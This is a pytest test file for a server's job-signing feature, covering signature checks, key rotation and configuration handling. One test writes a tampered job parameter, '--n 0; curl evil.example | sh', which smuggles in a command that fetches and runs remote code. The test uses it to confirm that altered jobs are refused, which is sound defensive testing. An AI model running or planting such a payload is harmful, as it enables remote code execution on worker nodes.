"""Signed job records on the server (jobs/signing.py, docs/job-signing.md): every job a pilot gets
carries a signature of its executable fields that the pilot's own verifier accepts."""

import io
import json
import logging
import os
import stat
import subprocess
import sys

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client

from jobs import signing
from jobs.choices import FileType, JobStatus
from jobs.models import Job, JobFile, JobSignature
from jobs.protocol import signed_fields
from jobs.services import dispatcher, retry
from pilot import signature
from tasks.choices import TaskType
from tasks.services.creation import submit_task

from ..factories import JobFactory, JobFileFactory, grant_role

pytestmark = pytest.mark.django_db
JSON = {"HTTP_ACCEPT": "application/json"}
INPUT = "mc11.007216.singlepart_mu18.digit.v11000302"


@pytest.fixture(params=["single-statement", "orm"])
def dispatch_path(request, settings):
    settings.PANDA = {**settings.PANDA, "DISPATCH_SINGLE_STATEMENT": request.param == "single-statement"}
    return request.param


def use_keys(settings, active, *accepted, generate=False):
    settings.PANDA = {**settings.PANDA, "SIGNING_KEY": str(active or ""), "SIGNING_KEY_GENERATE": generate,
                      "SIGNING_ACCEPTED_KEYS": [str(path) for path in accepted]}  # fmt: skip


@pytest.fixture
def key_a(tmp_path, settings):
    """The server signs with a fresh key A."""
    path = tmp_path / "key-a.pem"
    signing.write_new_key(path)
    use_keys(settings, path)
    return path


def published():
    """The keys a pilot fetching /api/v1/pilot/public_keys would use."""
    response = Client().get("/api/v1/pilot/public_keys")
    assert response.status_code == 200
    data = response.json()["data"]
    return signature.parse_key_list(json.dumps(data)) if data["keys"] else {}


def stored_signature_problem(pandaid, keys):
    """What the pilot would say about the stored signature of a job as it is in the database now."""
    job = Job.objects.get(pk=pandaid)
    row = JobSignature.objects.get(job_id=pandaid)
    fields = signed_fields(job, list(JobFile.objects.filter(job_id=pandaid).order_by("id")))
    return signature.check_job({**fields, "jobSignature": row.signature, "jobSignatureKeyId": row.key_id}, keys)


def get_job(site, token):
    response = Client().post("/server/panda/getJob", {"siteName": site.name, "node": "wn1"},
                             HTTP_AUTHORIZATION=f"Bearer {token}", **JSON)  # fmt: skip
    assert response.status_code == 200
    return response.json()


def activate(pandaids, site):
    Job.objects.filter(pk__in=pandaids).update(status=JobStatus.ACTIVATED, computing_site=site)


def submit(api, n=2):
    jobs = [
        {"job_name": f"sig{i}", "transformation": "#!/bin/sh\necho 'héllo'\r\n", "job_parameters": f"--n {i} 'a,b'",
         "input_files": [{"lfn": f"in{i}.{k}.root", "fsize": 10 + k, "checksum": "ad:0000abcd"} for k in range(3)],
         "output_files": [{"lfn": f"out{i}.root", "dataset": "user.alice.sig"}]}
        for i in range(n)
    ]  # fmt: skip
    response = api.post("/api/v1/jobs/", jobs, format="json")
    assert response.status_code == 201, response.content
    return response.json()["pandaids"]


# -- every way a job is created ------------------------------------------------------------------


def test_submitted_jobs_are_signed_and_getjob_sends_the_stored_signature(
    api, site, pilot_token, key_a, dispatch_path, monkeypatch
):
    pandaids = submit(api)
    keys = published()
    assert JobSignature.objects.filter(job_id__in=pandaids).count() == 2
    assert all(stored_signature_problem(pandaid, keys) is None for pandaid in pandaids)
    activate(pandaids, site)
    made_now = []
    original_sign = signing.Keyring.sign

    def counted_sign(ring, message):
        made_now.append(message)
        return original_sign(ring, message)

    monkeypatch.setattr(signing.Keyring, "sign", counted_sign)

    answer = get_job(site, pilot_token)

    assert answer["PandaID"] in pandaids and answer["jobSignatureKeyId"] == next(iter(keys))
    assert signature.check_job(answer, keys) is None
    # The single statement reads the signature made at submission; the ORM path signs at dispatch.
    assert len(made_now) == (0 if dispatcher.single_statement_dispatch() else 1)
    assert answer["jobSignature"] == JobSignature.objects.get(job_id=answer["PandaID"]).signature


@pytest.fixture
def inputs(db):
    from datasets.services import catalog
    from pandamon import roles
    from tests.factories import UserFactory

    operator = grant_role(UserFactory(username="ddmops"), roles.DATA_OPERATOR)
    files = [{"lfn": f"{INPUT}._{i:05d}.pool.root", "fsize": 1000 + i, "adler32": "0000abcd"} for i in range(1, 7)]
    catalog.register_new_dataset(user=operator, name=INPUT, files=files)


def test_task_jobs_are_signed(user, inputs, key_a):
    spec = {"input_dataset": INPUT, "output_dataset": "user.alice.reco.v1", "transformation": "run.sh",
            "job_parameters": "${IN} ${OUT}", "n_files_per_job": 2}  # fmt: skip
    _, pandaids = submit_task(user=user, spec=spec, task_type=TaskType.ANALYSIS)
    keys = published()
    assert len(pandaids) == 3
    assert [stored_signature_problem(pandaid, keys) for pandaid in pandaids] == [None] * 3
    job = Job.objects.get(pk=pandaids[0])
    assert f"{INPUT}._00001.pool.root" in signed_fields(job, list(JobFile.objects.filter(job=job)))["inFiles"]


def test_retried_jobs_are_signed(site, key_a, pilot_token):
    failed = JobFactory(status=JobStatus.FAILED, computing_site=site, job_parameters="-n 1")
    JobFileFactory(job=failed, type=FileType.INPUT, lfn="in.root", fsize=5, checksum="ad:00000001")
    JobFileFactory(job=failed, type=FileType.LOG, lfn="job.log.tgz")
    new = retry.retry_job(failed, actor="test")
    keys = published()
    assert stored_signature_problem(new.pandaid, keys) is None
    assert not JobSignature.objects.filter(job_id=failed.pandaid).exists()  # made by the factory, unsigned
    activate([new.pandaid], site)
    answer = get_job(site, pilot_token)
    assert (answer["PandaID"], answer["logFile"]) == (new.pandaid, "job.2.log.tgz")
    assert signature.check_job(answer, keys) is None


def test_jobs_without_a_stored_signature_are_signed_at_dispatch(site, pilot_token, key_a, dispatch_path):
    job = JobFactory(status=JobStatus.ACTIVATED, computing_site=site, job_parameters="--x")
    JobFileFactory(job=job, type=FileType.INPUT, lfn="a.root", fsize=7, checksum="ad:00000002")
    JobFileFactory(job=job, type=FileType.LOG, lfn="a.log.tgz")
    answer = get_job(site, pilot_token)
    assert answer["PandaID"] == job.pandaid
    assert signature.check_job(answer, published()) is None


@pytest.mark.skipif(connection.vendor != "postgresql", reason="only the single statement reads stored signatures")
def test_a_job_changed_in_the_database_after_submission_is_refused(api, site, pilot_token, key_a, settings):
    settings.PANDA = {**settings.PANDA, "DISPATCH_SINGLE_STATEMENT": True}
    (pandaid,) = submit(api, n=1)
    activate([pandaid], site)
    Job.objects.filter(pk=pandaid).update(job_parameters="--n 0; curl evil.example | sh")
    answer = get_job(site, pilot_token)
    assert "does not match the job description" in signature.check_job(answer, published())


# -- key rotation ------------------------------------------------------------------------------


def test_rotation_old_key_still_verifies_jobs_signed_before(api, site, pilot_token, key_a, tmp_path, settings):
    (before,) = submit(api, n=1)
    key_a_id = next(iter(published()))
    key_b = tmp_path / "key-b.pem"
    signing.write_new_key(key_b, bits=3072)
    use_keys(settings, key_b, key_a)  # B signs; A stays published

    (after,) = submit(api, n=1)
    keys = published()
    key_b_id = next(iter(keys))  # the active key comes first
    assert list(keys) == [key_b_id, key_a_id]
    assert JobSignature.objects.get(job_id=before).key_id == key_a_id
    assert JobSignature.objects.get(job_id=after).key_id == key_b_id
    activate([before, after], site)
    answers = [get_job(site, pilot_token) for _ in range(2)]
    # getJob's single statement sends the stored signatures; the ORM path (SQLite) signs anew with B.
    expected = {key_a_id, key_b_id} if dispatcher.single_statement_dispatch() else {key_b_id}
    assert {answer["jobSignatureKeyId"] for answer in answers} == expected
    assert [signature.check_job(answer, keys) for answer in answers] == [None, None]
    # A pilot given only the old key refuses the new job: the new key must reach sites first.
    only_a = {key_a_id: keys[key_a_id]}
    assert "unknown key id" in signature.check_job(next(a for a in answers if a["PandaID"] == after), only_a)


def test_a_retired_key_s_jobs_are_signed_again_at_dispatch(api, site, pilot_token, key_a, tmp_path, settings):
    (before,) = submit(api, n=1)
    key_b = tmp_path / "key-b.pem"
    signing.write_new_key(key_b)
    use_keys(settings, key_b)  # A retired: no longer published
    activate([before], site)
    answer = get_job(site, pilot_token)
    keys = published()
    assert list(keys) == [answer["jobSignatureKeyId"]]
    assert signature.check_job(answer, keys) is None


# -- configuration -------------------------------------------------------------------------------


def test_without_a_key_jobs_go_out_unsigned_with_a_warning(api, site, pilot_token, settings, caplog):
    use_keys(settings, None)
    signing.reset_cache()
    (pandaid,) = submit(api, n=1)
    activate([pandaid], site)
    with caplog.at_level(logging.WARNING, logger="jobs.signing"):
        answer = get_job(site, pilot_token)
    assert answer["PandaID"] == pandaid and "jobSignature" not in answer
    assert not JobSignature.objects.exists()
    assert published() == {}
    assert "JOBS ARE DISPATCHED UNSIGNED" in caplog.text


def test_a_single_host_setup_generates_its_key_once(tmp_path, settings):
    path = tmp_path / "var" / "job-signing-key.pem"
    use_keys(settings, path, generate=True)
    ring = signing.keyring()
    assert ring.signs and stat.S_IMODE(os.stat(path).st_mode) == 0o600
    signing.reset_cache()
    assert signing.keyring().active_key_id == ring.active_key_id  # read back, not generated again


def test_settings_refuse_a_configured_key_file_that_does_not_exist(tmp_path):
    env = {**os.environ, "DJANGO_SECRET_KEY": "x", "PANDA_SIGNING_KEY": str(tmp_path / "missing.pem"),
           "PANDAMON_VAR_DIR": str(tmp_path / "var")}  # fmt: skip
    done = subprocess.run([sys.executable, "-c", "import pandamon.settings"], env=env, capture_output=True, text=True)
    assert done.returncode != 0 and "missing.pem does not exist" in done.stderr


def test_a_public_key_cannot_be_the_signing_key(tmp_path, settings, key_a):
    public = tmp_path / "public.pem"
    public.write_text(signing.public_pem(signing.read_key_file(key_a).public_key()))
    use_keys(settings, public)
    with pytest.raises(signing.ImproperlyConfigured, match="needs the private key"):
        signing.keyring()


# -- manage.py panda_signing_key --------------------------------------------------------------------


def test_generate_command_writes_a_private_key_and_prints_its_public_key(tmp_path):
    path = tmp_path / "keys" / "signing.pem"
    out, err = io.StringIO(), io.StringIO()
    call_command("panda_signing_key", "generate", str(path), stdout=out, stderr=err)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    (key_id, key) = next(iter(signature.parse_pem_keys(out.getvalue()).items()))
    assert key.n == signing.read_key_file(path).private_numbers().public_numbers.n
    assert f"# job signing key {key_id}" in out.getvalue() and key_id in err.getvalue()
    with pytest.raises(CommandError, match="refusing to overwrite"):
        call_command("panda_signing_key", "generate", str(path), stdout=io.StringIO(), stderr=io.StringIO())


def test_public_command_prints_what_pilots_are_given(tmp_path, settings, key_a):
    key_b = tmp_path / "key-b.pem"
    signing.write_new_key(key_b)
    use_keys(settings, key_a, key_b)
    out = io.StringIO()
    call_command("panda_signing_key", "public", stdout=out)
    assert list(signature.parse_pem_keys(out.getvalue())) == list(published())
    out = io.StringIO()
    call_command("panda_signing_key", "public", "--json", stdout=out)
    assert signature.parse_key_list(out.getvalue()) == published()
    out = io.StringIO()
    call_command("panda_signing_key", "public", str(key_b), stdout=out)
    assert list(signature.parse_pem_keys(out.getvalue())) == list(published())[1:]
    use_keys(settings, None)
    with pytest.raises(CommandError, match="signs nothing"):
        call_command("panda_signing_key", "public", stdout=io.StringIO())
